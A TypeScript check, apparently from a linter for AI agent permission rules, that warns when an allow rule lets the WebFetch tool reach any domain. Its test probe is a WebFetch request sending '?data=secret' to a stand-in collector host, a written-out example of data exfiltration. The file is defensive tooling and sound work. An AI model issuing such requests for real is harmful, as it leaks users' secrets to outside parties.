import { allowFinding } from '../allow-finding.ts'
import type { Check } from '../check.ts'

const probe = { tool: 'WebFetch', input: { url: 'https://collector.example/?data=secret', prompt: 'x' } }

/** `WebFetch` or `WebFetch(domain:*)`: any address may be fetched, and an address can carry data away. */
export const allowFetchAnywhere: Check = {
  code: 'allow-fetch-anywhere',
  severity: 'warning',
  *find(input) {
    for (const rule of input.rules) {
      const { entry, compiled, parsed } = rule
      if (entry.effect !== 'allow' || parsed?.tool !== 'WebFetch' || compiled === null) continue
      if (compiled.kind === 'domain' && !compiled.matches('collector.example')) continue
      yield* allowFinding(input, rule, [probe], 'name the domains that are needed')
    }
  },
}
